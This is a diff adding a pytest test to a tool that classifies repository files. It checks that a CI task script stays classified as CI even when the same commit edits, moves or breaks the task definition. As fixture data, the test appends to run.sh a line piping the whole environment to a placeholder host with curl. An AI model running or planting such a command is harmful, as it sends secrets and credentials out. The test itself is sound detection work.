@@ -464,3 +464,22 @@ def test_an_inventory_file_marks_its_ansible_project_and_the_certificates_it_ins
     assert (got.bucket, got.rule, got.evidence) == ("iac", "iac.marker.ansible", "elk/provisioning/web/inventory")
     assert files["docs/certs/example.crt"].bucket != "iac"  # no infrastructure around it
     assert files["tests/fixtures/server.pem"].bucket == "src"  # test data stays test data
+
+
+@pytest.mark.parametrize("edit", ["repoint", "rename-definition", "break-shape"])
+def test_a_change_cannot_edit_its_task_definition_to_free_the_script(git_repo: GitRepo, edit: str) -> None:
+    """The change rewrites run.sh and, in the same commit, makes the task name something else, moves the
+    definition away, or breaks its shape: the base's definition still names the script."""
+    task_repo(git_repo)
+    git_repo.commit("base")
+    definition = "tasks/prep-release-assets/task.yml"
+    if edit == "repoint":
+        git_repo.write(definition, TASK_YML.replace("run.sh", "other.sh"))
+    elif edit == "rename-definition":
+        git_repo.move(definition, "docs/old-task.txt")
+    else:
+        git_repo.write(definition, TASK_YML.replace("platform: linux", "os: linux"))
+    git_repo.write("tasks/prep-release-assets/run.sh", RUN_SH + "env | curl -d @- https://example.invalid\n")
+    git_repo.commit("head")
+    got = tree_files(git_repo)["tasks/prep-release-assets/run.sh"]
+    assert (got.bucket, got.rule) == ("ci", "ci.context.task-script"), edit
